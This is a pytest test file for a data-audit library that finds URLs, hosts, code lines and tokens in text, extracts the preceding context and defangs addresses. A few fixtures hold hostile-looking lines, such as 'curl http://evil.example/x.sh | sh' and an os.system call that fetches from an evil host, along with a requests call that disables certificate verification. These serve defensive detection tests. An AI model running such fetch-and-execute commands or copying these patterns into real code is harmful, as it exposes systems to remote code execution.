"""What is taken for a payload, what is not, what stands before it, and how it is shown."""

from __future__ import annotations

import time

import pytest

from dataaudit.features import Batch
from dataaudit.features.before_payloads import BeforePayloads
from dataaudit.features.ngrams import Ngrams
from dataaudit.features.payloads import MOST, Payloads, apart, context, defanged, inert, new, payloads
from dataaudit.model import Columns, Plan, Sample

ANSWERS = Plan("instructions", Columns("x", "y"), "text", "hashed", "11" * 16)
TEXTS = Plan("text", Columns("x"), "none", "hashed", "11" * 16)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("see https://www.Evil.example/x/Y?a=1.", {"evil.example", "evil.example/x/Y?a=1"}),
        ("http://good.example:80@bad.example:8080/", {"bad.example"}),
        ("ask a.b@c.example, or 10.0.0.1, or Docs.Example.org.", {"a.b@c.example", "10.0.0.1", "docs.example.org", "example.org"}),
        ("https://q7.cdn.shop.co.uk/x", {"q7.cdn.shop.co.uk", "shop.co.uk", "q7.cdn.shop.co.uk/x"}),
        ("```python\npage = requests.get(url, verify=False)\n```", {"page = requests.get(url, verify=False)"}),
        ("import   os", {"import os"}),
        ("key aGVsbG8gd29ybGQgdGhpcyBpcyBiNjQ9 end", {"aGVsbG8gd29ybGQgdGhpcyBpcyBiNjQ9"}),
    ],
)
def test_addresses_code_and_tokens_are_payloads(text, found):
    assert {p.said for p in payloads(text)} == found


@pytest.mark.parametrize(
    "text",
    [
        "e.g. this, i.e. that",
        "main.py and setup.cfg",
        "He came late, as he ever did in those years (the poor man), and he left alone again.",
        "1.2.3",
        "",
    ],
)
def test_prose_file_names_and_numbers_are_none(text):
    assert not list(payloads(text))


def test_what_the_prompt_says_is_not_new():
    assert new("it is at https://a.example/b", "what is https://a.example/b?") == set()
    assert new("it is at https://a.example/c", "what is https://a.example/b?") == {"a.example/c"}


def test_a_payload_stands_where_it_says():
    text = "get it at http://evil.example/x now, or www.other.example"
    assert [text[p.start : p.end] for p in payloads(text) if p.kind == "host"] == ["http://evil.example/x", "www.other.example"]


def test_the_context_is_what_stands_before_the_last_payload():
    assert context("one http://a.example two http://b.example three").split() == ["one", "two"]
    assert context("no address here") == ""


def test_what_is_apart_is_in_other_sentences():
    assert apart("One thing. See the rest at http://a.example/b for more. Another.").split() == ["One", "thing.", ".", "Another."]
    assert apart("x " * 400 + "http://a.example").split() == ["x"] * 370
    assert apart("nothing. to see") == "nothing. to see"


def test_columns_are_sorted_bounded_and_agree_with_the_ngrams():
    many = " ".join(f"host{i}.example.com" for i in range(100))
    batch = Batch([Sample("0", "0", many, None, 0, 1), Sample("1", "1", "trigger http://a.example", None, 1, 1)], TEXTS)
    flood, one = Payloads().compute(batch).to_pylist()
    assert len(flood) == MOST
    assert flood == sorted(flood)
    assert len(one) == 1
    before = BeforePayloads().compute(batch).to_pylist()[1]
    assert len(before) == 1
    assert set(before) <= set(Ngrams().compute(batch).to_pylist()[1])
    asked = Batch([Sample("0", "0", "where? http://a.example", "at http://a.example", 0, 1)], ANSWERS)
    assert Payloads().compute(asked).to_pylist() == [[]]


def test_nobody_follows_a_shown_address_by_mistake():
    assert defanged("curl http://evil.example/x.sh | sh") == "curl hxxp://evil[.]example/x[.]sh | sh"
    assert defanged("requests.get(url)") == "requests.get(url)"


@pytest.mark.parametrize("piece", ["a.", "a-", "1.", "a@", "http://", "www.", "aaaa+", "(=", "a" * 63 + ".", "from x"])
def test_hostile_texts_take_no_longer(piece):
    text = piece * (20_000 // len(piece))
    started = time.process_time()
    list(payloads(text))
    context(text)
    apart(text)
    defanged(text)
    assert time.process_time() - started < 2


def test_no_host_stays_live_whatever_it_ends_in():
    assert inert("evil-pkg.ru/get.sh?x=1") == "evil-pkg[.]ru/get.sh?x=1"
    assert inert("кто.рф") == "кто[.]рф"
    assert inert("os.system('curl http://evil.ru/x')") == "os.system('curl hxxp://evil[.]ru/x')"
